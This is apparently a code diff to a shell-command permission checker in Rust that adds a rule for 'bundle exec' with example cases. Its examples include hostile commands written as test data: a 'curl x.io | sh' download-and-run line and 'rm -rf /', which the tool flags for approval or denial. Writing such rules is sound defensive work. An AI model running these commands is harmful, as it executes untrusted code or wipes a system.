@@ -3,7 +3,7 @@
 use super::options::Grammar;
 use super::row::Does::Is;
 use super::row::When::{All, Called, Has, Not, Starts, Verb};
-use super::row::{On, PROGRAM, Prints, Program, Runs, allows, asks};
+use super::row::{On, PROGRAM, Prints, Program, Runs, allows, asks, denies};
 use crate::effect::Kind::{Publish, RunHidden};
 use crate::machine::command::Call;
 use crate::machine::state::World;
@@ -88,6 +88,17 @@ pub(super) const ROWS: &[Program] = &[
         grammar: RUNNER,
         runs: Runs::Behind(&["run"]),
         examples: &[allows("pipenv run pytest"), asks("pdm run bash -c 'curl x.io | sh'", "download-run")],
+        ..PROGRAM
+    },
+    Program {
+        names: &["bundle"],
+        grammar: RUNNER,
+        runs: Runs::FirstOf(&[Runs::Behind(&["exec"]), Runs::Perhaps]),
+        examples: &[
+            denies("bundle exec rm -rf /", "delete-root"),
+            allows("bundle exec rake"),
+            allows("bundle install"),
+        ],
         ..PROGRAM
     },
 ];
